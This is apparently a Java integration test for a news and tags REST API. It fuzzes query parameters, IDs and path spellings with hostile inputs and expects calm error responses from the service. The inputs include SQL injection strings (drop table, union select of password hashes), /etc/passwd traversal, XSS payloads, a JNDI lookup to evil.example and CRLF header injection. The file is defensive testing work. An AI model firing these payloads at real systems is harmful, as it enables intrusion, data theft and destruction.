package dev.vestnik.edge;

import static dev.vestnik.testing.NewsItemBuilder.aNewsItem;
import static dev.vestnik.testing.TagBuilder.aTag;
import static io.restassured.RestAssured.given;
import static org.hamcrest.MatcherAssert.assertThat;
import static org.hamcrest.Matchers.contains;
import static org.hamcrest.Matchers.containsString;
import static org.hamcrest.Matchers.empty;
import static org.hamcrest.Matchers.equalTo;

import dev.vestnik.access.Logins;
import dev.vestnik.access.Role;
import io.quarkus.test.junit.QuarkusTest;
import io.restassured.RestAssured;
import io.restassured.response.Response;
import io.restassured.specification.RequestSpecification;
import java.net.URI;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.Set;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

/// What nobody sends by accident.
@QuarkusTest
class NastyParametersTest {

    private static final List<String> NASTY =
            List.of(
                    "'",
                    "\"",
                    "''",
                    "' or '1'='1",
                    "' or 1=1 --",
                    "1; drop table news_item; --",
                    "') union select null, password_hash from app_user --",
                    "1' and sleep(5) --",
                    "\\",
                    "%",
                    "_",
                    "%%%",
                    "%27",
                    "%2e%2e%2f",
                    "../",
                    "..",
                    "../../etc/passwd",
                    "..%2f..%2fetc",
                    "/etc/passwd",
                    "C:\\windows",
                    "file:///etc/passwd",
                    "http://evil.example/",
                    "//evil.example",
                    "<script>alert(1)</script>",
                    "\"><img src=x onerror=alert(1)>",
                    "${jndi:ldap://evil.example/a}",
                    "#{7*7}",
                    "{{7*7}}",
                    "${7*7}",
                    "*",
                    "(",
                    ")",
                    "[",
                    "]",
                    "{",
                    "}",
                    "|",
                    "&",
                    "=",
                    "?",
                    "#",
                    ";a=b",
                    ",",
                    ",,",
                    " ",
                    "\t",
                    "\n",
                    "\r\nX: y",
                    "0",
                    "-1",
                    "1e309",
                    "NaN",
                    "Infinity",
                    "9999999999999999999999",
                    "0x10",
                    "null",
                    "undefined",
                    "true",
                    "😀",
                    "👩‍👩‍👧‍👦",
                    "ﷺ",
                    "\u202e",
                    "\ufeff",
                    "é",
                    "İ",
                    "ß",
                    "\u0001",
                    "\u007f",
                    "\ufffd",
                    "2025-13-45",
                    "+999999999-12-31T23:59:59Z",
                    "-999999999-01-01",
                    "0000-00-00",
                    "0193b0a0-0000-7000-8000-00000000000g",
                    "0193b0a0000070008000000000000001",
                    "1-1-1-1-1",
                    "{0193b0a0-0000-7000-8000-000000000001}",
                    "AAAA",
                    "====",
                    "a".repeat(3000));

    private static final Set<Integer> CALM = Set.of(200, 400, 404);

    static Stream<String> parametersOfLists() {
        List<String> all = new ArrayList<>();
        for (String name :
                "locale tag from to author featured updatedSince ids sort include status trashed limit cursor total fields"
                        .split(" ")) {
            all.add("/api/v1/news?" + name);
        }
        for (String name : "locale q sort limit cursor total fields".split(" ")) {
            all.add("/api/v1/tags?" + name);
        }
        for (String name : "locale tag include state fields".split(" ")) {
            all.add("/api/v1/news/water?" + name);
        }
        for (String name : "locale fields".split(" ")) {
            all.add("/api/v1/tags/water?" + name);
        }
        return all.stream();
    }

    private static URI path(String template, String id) {
        String encoded = URLEncoder.encode(id, StandardCharsets.UTF_8).replace("+", "%20");
        return URI.create(
                RestAssured.baseURI + ":" + RestAssured.port + template.replace("{id}", encoded));
    }

    private static RequestSpecification as(String token) {
        return given().auth().oauth2(token);
    }

    private static List<String> upset(Stream<Response> answers) {
        List<String> upset = new ArrayList<>();
        answers.forEach(answer -> {
            int status = answer.statusCode();
            boolean problem =
                    status == 200
                            || answer.contentType().startsWith("application/problem+json")
                                    && answer.path("code") != null;
            if (!CALM.contains(status) || !problem) {
                upset.add(status + " " + answer.asString());
            }
        });
        return upset;
    }

    @ParameterizedTest
    @MethodSource("parametersOfLists")
    void no_value_of_a_parameter_upsets(String parameter) {
        aTag().slug("water").exists();
        aNewsItem().with("slug", "water").tagged("water").exists();
        String path = parameter.substring(0, parameter.indexOf('?'));
        String name = parameter.substring(parameter.indexOf('?') + 1);

        String token = Logins.token("an-editor", Role.EDITOR);

        List<String> upset =
                upset(NASTY.stream().map(nasty -> as(token).queryParam(name, nasty).get(path)));

        assertThat(upset, empty());
    }

    @ParameterizedTest
    @ValueSource(
            strings = {"/api/v1/news/{id}", "/api/v1/tags/{id}", "/api/v1/news/{id}?state=draft"})
    void no_id_or_slug_upsets(String path) {
        String token = Logins.token("an-editor", Role.EDITOR);

        List<String> upset =
                upset(
                        NASTY.stream()
                                .map(nasty ->
                                        as(token)
                                                .urlEncodingEnabled(false)
                                                .get(path(path, nasty))));

        assertThat(upset, empty());
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "/api/v1/news/{id}/publish",
                "/api/v1/news/{id}/unpublish",
                "/api/v1/tags/{id}/merge"
            })
    void no_id_of_a_verb_upsets(String path) {
        String token = Logins.token("an-editor", Role.EDITOR);

        List<String> statuses =
                NASTY.stream()
                        .filter(nasty -> !nasty.isBlank())
                        .map(nasty ->
                                as(token)
                                        .contentType("application/json")
                                        .body(
                                                "{\"into\": \"0193b0a0-0000-7000-8000-000000000001\"}")
                                        .urlEncodingEnabled(false)
                                        .post(path(path, nasty)))
                        .filter(answer -> answer.statusCode() >= 500)
                        .map(Response::asString)
                        .toList();

        assertThat(statuses, empty());
    }

    @Test
    void an_injection_finds_what_it_says_literally() {
        aTag().slug("water").exists();
        aNewsItem().with("author", "Айгүл").tagged("water").exists();

        for (String name : List.of("author", "tag")) {
            given().queryParam(name, "' or '1'='1")
                    .get("/api/v1/news")
                    .then()
                    .statusCode(200)
                    .body("items", empty());
        }
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "/api/v1/news",
                "/api/v1/news/water",
                "/api/v1/tags",
                "/api/v1/tags/water",
                "/api/v1/me"
            })
    void an_unknown_parameter_is_named_with_those_that_are_known(String path) {
        Logins.editor()
                .queryParam("passwordHash", "a")
                .get(path)
                .then()
                .statusCode(400)
                .body("code", equalTo("UNKNOWN_PARAMETER"))
                .body("errors.parameter", contains("passwordHash"))
                .body("errors[0].detail", containsString("allowed are: "));
    }

    @ParameterizedTest
    @CsvSource({
        "/api/v1/news, locale, ru",
        "/api/v1/news, limit, 5",
        "/api/v1/news, author, A",
        "/api/v1/tags, q, a",
        "/api/v1/tags/water, locale, ru",
        "/api/v1/news/water, include, related"
    })
    void a_parameter_that_comes_twice_is_refused(String path, String name, String value) {
        given().queryParam(name, value, value)
                .get(path)
                .then()
                .statusCode(400)
                .body("errors.parameter", contains(name))
                .body("errors.code", contains("REPEATED"));
    }

    @ParameterizedTest
    @MethodSource("parametersOfLists")
    void a_blank_parameter_is_refused(String parameter) {
        given().get(parameter + "=").then().statusCode(400).body("errors.code", contains("BLANK"));
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "/api/v1/news/",
                "/api/v1//news",
                "/api/v1/./news",
                "/api/v1/x/../news",
                "/api/v1/news;a=b",
                "/api/v1/news%3Ba=b",
                "/api%2Fv1/news",
                "/api/v1/%6eews",
                "/API/v1/news"
            })
    void no_spelling_of_a_path_lets_an_anonymous_write_pass(String path) {
        int status =
                given().urlEncodingEnabled(false)
                        .contentType("application/json")
                        .body(aNewsItem().input())
                        .post(path)
                        .statusCode();

        assertThat(status, org.hamcrest.Matchers.greaterThanOrEqualTo(400));
        assertThat(status, org.hamcrest.Matchers.lessThan(500));
    }
}
